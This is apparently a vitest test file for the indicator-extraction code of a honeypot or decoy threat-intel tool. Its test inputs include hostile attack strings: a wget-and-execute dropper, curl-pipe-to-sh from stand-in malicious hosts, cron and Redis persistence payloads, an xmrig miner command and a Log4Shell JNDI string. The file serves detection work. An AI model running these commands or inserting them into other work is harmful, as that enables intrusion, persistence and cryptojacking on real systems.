import { describe, expect, it } from 'vitest'
import { analyseEvent } from '../../src/intel/analyse.ts'
import { MAX_IOCS_PER_EVENT } from '../../src/intel/rules/ioc.ts'
import type { IocFinding, IocKind } from '../../src/intel/types.ts'
import { event, httpRequest, shellCommand } from './events.ts'

const values = (iocs: IocFinding[], kind: IocKind) =>
  iocs.filter((ioc) => ioc.kind === kind).map((ioc) => ioc.value)

const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
const SHA1 = 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3'
const MD5 = '098f6bcd4621d373cade4e832627b4f6'
const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const BTC_BECH32 = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'
const BTC_LEGACY = '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'
const ETH = '0x52908400098527886E0F7030069857D2E4169EE7'

describe('IOC extraction', () => {
  it('a download command yields the URL, its host IP and the file names it fetches and writes', () => {
    const { iocs } = analyseEvent(
      shellCommand(
        'cd /tmp; wget http://198.51.100.4:8080/bins/x86.bin -O .kworker; chmod +x .kworker; ./.kworker',
      ),
    )
    expect(values(iocs, 'url')).toEqual(['http://198.51.100.4:8080/bins/x86.bin'])
    expect(values(iocs, 'ip')).toEqual(['198.51.100.4'])
    expect(values(iocs, 'filename').sort()).toEqual(['.kworker', 'x86.bin'])
    expect(iocs.every((ioc) => ioc.source === 'command')).toBe(true)
  })

  it('files dropped in /tmp, /var/tmp and /dev/shm are named; directories and other paths are not', () => {
    const { iocs } = analyseEvent(
      shellCommand('cp /bin/ls /dev/shm/.ssh-agent; echo x > /var/tmp/.cache/kd; cd /tmp/; cat /etc/hosts'),
    )
    expect(values(iocs, 'filename')).toEqual(['.ssh-agent', 'kd'])
  })

  it('domains come from URL hosts and bare command arguments, not from file names with TLD-like extensions', () => {
    const { iocs } = analyseEvent(
      shellCommand(
        'curl -s https://cdn.evil-update.top/a.sh | sh; wget dl.badhost.ru/x; sh install.sh; python run.py',
      ),
    )
    expect(values(iocs, 'domain').sort()).toEqual(['cdn.evil-update.top', 'dl.badhost.ru'])
    expect(values(iocs, 'filename')).toEqual(expect.arrayContaining(['a.sh', 'install.sh', 'run.py']))
  })

  it('hashes by length, lower-cased; an Ethereum address is a wallet, not a SHA-1', () => {
    const { iocs } = analyseEvent(shellCommand(`echo ${SHA256.toUpperCase()} ${SHA1} ${MD5} ${ETH}`))
    expect(values(iocs, 'sha256')).toEqual([SHA256])
    expect(values(iocs, 'sha1')).toEqual([SHA1])
    expect(values(iocs, 'md5')).toEqual([MD5])
    expect(values(iocs, 'wallet')).toEqual([ETH])
  })

  it('wallets: Monero, Bitcoin bech32 and legacy; words and paths are no wallets', () => {
    const { iocs } = analyseEvent(
      shellCommand(`./xmrig -o pool.supportxmr.com:443 -u ${XMR} --tls; echo ${BTC_BECH32} ${BTC_LEGACY}`),
    )
    expect(values(iocs, 'wallet').sort()).toEqual([BTC_LEGACY, BTC_BECH32, XMR].sort())
    expect(
      values(analyseEvent(shellCommand('echo 1thisisjustalongwordwithnodigits')).iocs, 'wallet'),
    ).toEqual([])
  })

  it('IPv4 addresses are validated: versions and out-of-range octets are not addresses', () => {
    const { iocs } = analyseEvent(shellCommand('ping -c1 10.0.0.1; echo 1.2.3.4.5 999.1.1.1 v1.2.3'))
    expect(values(iocs, 'ip')).toEqual(['10.0.0.1'])
  })

  it('HTTP requests: URLs and IPs in the decoded path, the body and the user agent', () => {
    const { iocs } = analyseEvent(
      httpRequest({
        path: '/shell?cd+/tmp;wget+http://198.51.100.4/mozi.m%20-O+/tmp/m',
        body: 'cmd=curl%20http://x.example.top/y',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
        user_agent: '${jndi:ldap://203.0.113.50:1389/Exploit}',
      }),
    )
    expect(values(iocs, 'url').sort()).toEqual([
      'http://198.51.100.4/mozi.m',
      'http://x.example.top/y',
      'ldap://203.0.113.50:1389/Exploit',
    ])
    expect(values(iocs, 'ip')).toEqual(['198.51.100.4', '203.0.113.50'])
    expect(iocs.every((ioc) => ioc.source === 'http')).toBe(true)
    // The Host header is the decky's own address, not an indicator
    expect(values(iocs, 'ip')).not.toContain('10.0.0.5')
  })

  it('downloads: url, sha256 and file name as recorded by the decoy', () => {
    const { iocs } = analyseEvent(
      event('download', 'ssh', {
        url: 'http://172.20.0.9:8080/xmrig',
        sha256: SHA256.toUpperCase(),
        size: 1234,
        filename: 'xmrig',
        truncated: false,
      }),
    )
    expect(iocs).toEqual(
      expect.arrayContaining([
        { kind: 'url', value: 'http://172.20.0.9:8080/xmrig', source: 'download' },
        { kind: 'ip', value: '172.20.0.9', source: 'download' },
        { kind: 'sha256', value: SHA256, source: 'download' },
        { kind: 'filename', value: 'xmrig', source: 'download' },
      ]),
    )
  })

  it('downloads after a redirect: the final URL and the address really connected to', () => {
    const { iocs } = analyseEvent(
      event('download', 'ssh', {
        username: 'root',
        tool: 'wget',
        url: 'http://short.example.top/m',
        final_url: 'http://cdn.example.top/files/xmrig',
        remote_ip: '172.20.0.9',
        filename: 'm',
        path: '/root/m',
        status: 200,
        sha256: SHA256,
        size: 10,
        truncated: false,
      }),
    )
    expect(values(iocs, 'url')).toEqual(['http://short.example.top/m', 'http://cdn.example.top/files/xmrig'])
    expect(values(iocs, 'ip')).toEqual(['172.20.0.9'])
    expect(values(iocs, 'domain')).toEqual(['short.example.top', 'cdn.example.top'])
    expect(values(iocs, 'filename')).toEqual(['m', 'xmrig'])
  })

  it('cron jobs: URLs, IPs and file names in the installed lines', () => {
    const { iocs } = analyseEvent(
      event('cron_job', 'ssh', {
        via: 'crontab',
        jobs: '*/5 * * * * curl -fsSL http://198.51.100.4/c.sh | sh\n@reboot /tmp/.x/xmrig',
      }),
    )
    expect(values(iocs, 'url')).toEqual(['http://198.51.100.4/c.sh'])
    expect(values(iocs, 'ip')).toEqual(['198.51.100.4'])
    expect(values(iocs, 'filename')).toEqual(['c.sh', 'xmrig'])
    expect(iocs.every((ioc) => ioc.source === 'command')).toBe(true)
  })

  it('uploads (scp, ftp): sha256 and file name', () => {
    const scp = analyseEvent(
      event('upload', 'ssh', { via: 'scp', path: '/tmp', name: 'bot.arm7', bytes: 10, sha256: SHA256 }),
    )
    expect(values(scp.iocs, 'filename')).toEqual(['bot.arm7'])
    expect(values(scp.iocs, 'sha256')).toEqual([SHA256])
    const ftp = analyseEvent(
      event('upload', 'ftp', { username: 'u', path: 'incoming/payload.exe', bytes: 10, sha256: SHA256 }),
    )
    expect(values(ftp.iocs, 'filename')).toEqual(['payload.exe'])
  })

  it('redis commands: a URL in the arguments (cron payload written through SET)', () => {
    const { iocs } = analyseEvent(
      event('command', 'redis', {
        cmd: 'SET',
        args: JSON.stringify(['x', '\n*/1 * * * * curl -fsSL http://198.51.100.4/c.sh | sh\n']),
      }),
    )
    expect(values(iocs, 'url')).toEqual(['http://198.51.100.4/c.sh'])
  })

  it('deduplicated per event and capped in count and length', () => {
    const repeated = analyseEvent(shellCommand('wget http://198.51.100.4/a; wget http://198.51.100.4/a'))
    expect(values(repeated.iocs, 'url')).toEqual(['http://198.51.100.4/a'])
    const flood = analyseEvent(
      shellCommand(Array.from({ length: 300 }, (_, i) => `10.0.${i >> 8}.${i & 255}`).join(' ')),
    )
    expect(flood.iocs.length).toBe(MAX_IOCS_PER_EVENT)
    const long = analyseEvent(shellCommand(`wget http://198.51.100.4/${'a'.repeat(3000)}`))
    for (const ioc of long.iocs) expect(ioc.value.length).toBeLessThanOrEqual(512)
  })

  it('events that carry no attacker text yield none', () => {
    expect(analyseEvent(event('connect', 'ssh', { local_port: 22 })).iocs).toEqual([])
    expect(
      analyseEvent(
        event('auth_attempt', 'ssh', { username: 'root', password: 'http://198.51.100.4/x', success: false }),
      ).iocs,
    ).toEqual([])
  })
})
